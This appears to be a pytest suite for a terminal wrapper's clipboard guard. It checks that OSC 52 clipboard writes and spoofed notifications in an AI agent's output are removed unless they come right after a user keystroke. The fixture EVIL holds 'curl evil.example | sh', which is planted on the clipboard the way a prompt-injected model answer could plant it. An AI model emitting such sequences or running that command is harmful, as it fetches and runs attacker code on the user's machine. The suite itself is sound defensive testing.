"""The clipboard guard with real Pi (1.4.0 and the latest) under ``python -m cuewrap``
(docs/terminal-guard.md). The fake model's answer carries an OSC 52 clipboard write, as a
prompt injection can make a model write; Pi renders it raw (the first test shows it reaching
the terminal without cuewrap). ``raw_output`` is every byte cuewrap wrote to its terminal."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest
from fakemodel import FakeModel, text
from pirig import PiSession, answered
from termscan import clip_writes
from waiting import wait_until

pytestmark = pytest.mark.pi

EVIL = b"curl evil.example | sh"
WRITE = "\x1b]52;c;" + base64.b64encode(EVIL).decode() + "\x07"
ANSWER = f"Here is the command {WRITE}ok, all done."
WIDE = (40, 220)  # the /cue lines fit on one screen line


def clip_records(s: PiSession) -> list[dict[str, Any]]:
    return s.log_records("clipboard")


def test_pi_alone_lets_the_answers_clipboard_write_through(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """The threat, shown: without cuewrap the model's OSC 52 reaches the terminal."""
    fakemodel.push(text(ANSWER))
    s: PiSession = pi_session(wrap=False)
    s.prompt("show me")
    wait_until(lambda: clip_writes(s.raw_output), 15, "an OSC 52 from Pi", detail=s.dump)
    assert base64.b64encode(EVIL) in clip_writes(s.raw_output)


def test_answers_clipboard_write_is_removed_counted_and_said(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    fakemodel.push(text(ANSWER))
    s: PiSession = pi_session(dimensions=WIDE)
    answered(s, "show me", r"ok, all done\.")
    s.wait_for_screen(r"cuewrap: removed a clipboard write \(OSC 52, \d+ bytes\)")
    removed = clip_records(s)
    assert removed, "no clipboard record"
    assert all(not r["passed"] and not r["read"] for r in removed), removed
    assert {r["bytes"] for r in removed} == {len(WRITE)}
    # the redraw right after the run settles comes within 2 s of the prompt's Enter: the
    # frame rule is what removes that one
    reasons = {"a run is streaming", "no keystroke in the last 2 s"}
    reasons.add("inside a frame Pi draws (part of the transcript)")
    assert {r["why"] for r in removed} <= reasons, removed
    # keystrokes now (no run): Pi's redraws of the transcript are inside its frames
    s.submit("/cue")
    s.wait_for_screen(rf"clipboard guard: user .* removed {len(clip_records(s))} sequence")
    s.submit("/cue")
    s.wait_for_screen(r"clipboard guard: user")
    s.quit()
    s.wait_exit()
    assert clip_writes(s.raw_output) == []
    assert all(not r["passed"] for r in clip_records(s))
    said = [r for r in s.log_records("diagnostic") if "clipboard" in r["text"]]
    assert len(said) == 1, said  # once per session
    log = s.log_path.read_text() if s.log_path else ""
    assert base64.b64encode(EVIL).decode() not in log and EVIL.decode() not in log


def test_copy_right_after_the_user_asked_passes(pi_session: Any, fakemodel: FakeModel) -> None:
    fakemodel.push(text("copy me please"))
    s: PiSession = pi_session(env={"PI_CLIPBOARD_OSC52": "1"})
    answered(s, "say it", r"copy me please")
    assert clip_writes(s.raw_output) == []
    s.submit("/copy")
    got = wait_until(lambda: clip_writes(s.raw_output), 10, "Pi's OSC 52", detail=s.dump)
    assert base64.b64decode(got[0]) == b"copy me please"
    rec = s.wait_log("clipboard")
    assert rec["passed"] is True and rec["why"] == "right after your keystroke", rec


def test_allow_lets_the_answers_write_through(pi_session: Any, fakemodel: FakeModel) -> None:
    fakemodel.push(text(ANSWER))
    s: PiSession = pi_session(env={"CUEWRAP_GUARD_CLIPBOARD": "allow"})
    answered(s, "show me", r"ok, all done\.")
    assert base64.b64encode(EVIL) in clip_writes(s.raw_output)


def test_block_removes_even_copy(pi_session: Any, fakemodel: FakeModel) -> None:
    fakemodel.push(text("copy me please"))
    s: PiSession = pi_session(env={"PI_CLIPBOARD_OSC52": "1", "CUEWRAP_GUARD_CLIPBOARD": "block"})
    answered(s, "say it", r"copy me please")
    s.submit("/copy")
    rec = s.wait_log("clipboard")
    assert rec["passed"] is False and rec["why"] == "guard.clipboard = block", rec
    assert clip_writes(s.raw_output) == []


NOTE = "\x1b]777;notify;Urgent;click here\x07"


@pytest.mark.parametrize("pi_version", ["1.4.0"])
def test_a_failed_tracker_still_removes_the_guarded_sequences(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """The output tracker fails at the first chunk (``CUEWRAP_DEBUG_FAULT=tracker``): Pi runs
    on, its output through the fallback guard (docs/terminal-guard.md), which still removes
    the answer's clipboard write and notification (and, unable to tell Pi's own, Pi's titles
    too); it is said once in the log and on /cue."""
    fakemodel.push(text(f"Here {WRITE} and {NOTE} ok, all done."))
    s: PiSession = pi_session(env={"CUEWRAP_DEBUG_FAULT": "tracker"}, dimensions=WIDE)
    answered(s, "show me", r"ok, all done\.")
    s.submit("/cue")
    s.wait_for_screen(r"output guard: the output tracker failed")
    s.quit()
    s.wait_exit()
    raw = s.raw_output
    assert b"]777;" not in raw and clip_writes(raw) == []
    assert re.search(rb"\x1b\]0*[012];", raw) is None  # Pi's titles: removed as well
    assert raw.count(b"\x1b\x18") >= 2  # where they were
    fell = s.log_records("guard_fallback")
    assert len(fell) == 1 and fell[0]["clipboard"] and fell[0]["outside"], fell
    assert any(r.get("where") == "tracker" for r in s.log_records("internal_error"))
